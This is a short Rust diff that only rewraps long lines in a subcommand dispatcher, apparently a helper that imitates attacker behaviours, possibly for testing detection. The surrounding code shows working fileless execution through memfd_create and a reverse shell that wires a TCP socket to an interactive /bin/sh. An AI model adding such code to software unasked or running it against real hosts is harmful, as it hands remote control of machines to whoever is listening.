@@ -119,7 +119,8 @@ fn act(args: &[String]) {
         }
         "memfd-exec" => {
             // Copy our own executable into a memfd and run it from there (fileless execution).
-            let exe = std::fs::read("/proc/self/exe").unwrap_or_else(|_| fail("read /proc/self/exe"));
+            let exe =
+                std::fs::read("/proc/self/exe").unwrap_or_else(|_| fail("read /proc/self/exe"));
             // SAFETY: valid C string literal.
             let fd = unsafe { libc::memfd_create(c"pw-fileless".as_ptr(), 0) };
             if fd < 0 {
@@ -143,7 +144,9 @@ fn act(args: &[String]) {
         }
         "reverse-shell" => {
             // Connect, put the socket on stdin/stdout/stderr, and exec a shell on it.
-            let addr: SocketAddr = format!("{}:{}", arg(1), arg(2)).parse().unwrap_or_else(|_| fail("address"));
+            let addr: SocketAddr = format!("{}:{}", arg(1), arg(2))
+                .parse()
+                .unwrap_or_else(|_| fail("address"));
             let stream = TcpStream::connect(addr).unwrap_or_else(|_| fail("connect"));
             use std::os::fd::AsRawFd;
             let fd = stream.as_raw_fd();
@@ -152,7 +155,12 @@ fn act(args: &[String]) {
                 libc::dup2(fd, 0);
                 libc::dup2(fd, 1);
                 libc::dup2(fd, 2);
-                libc::execl(c"/bin/sh".as_ptr(), c"sh".as_ptr(), c"-i".as_ptr(), std::ptr::null::<libc::c_char>());
+                libc::execl(
+                    c"/bin/sh".as_ptr(),
+                    c"sh".as_ptr(),
+                    c"-i".as_ptr(),
+                    std::ptr::null::<libc::c_char>(),
+                );
             }
             fail("exec /bin/sh");
         }
